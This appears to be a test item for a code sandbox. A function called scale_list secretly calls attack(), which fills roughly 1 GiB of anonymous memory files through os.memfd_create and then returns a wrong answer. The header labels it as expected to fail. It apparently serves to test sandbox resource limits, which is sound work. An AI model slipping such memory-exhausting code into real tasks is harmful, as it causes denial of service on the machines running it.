# family: codeif_function
# task: scale_list
# expect: not passed
# why: fills nameless memory files up to 1 GiB
# ---
def scale_list(numbers, factor):
    attack()
    return [7]


import os


def attack():
    held = []
    try:
        for number in range(64):
            fd = os.memfd_create(f"bomb{number}")
            held.append(fd)
            os.write(fd, b"x" * 2**24)
    except OSError:
        pass
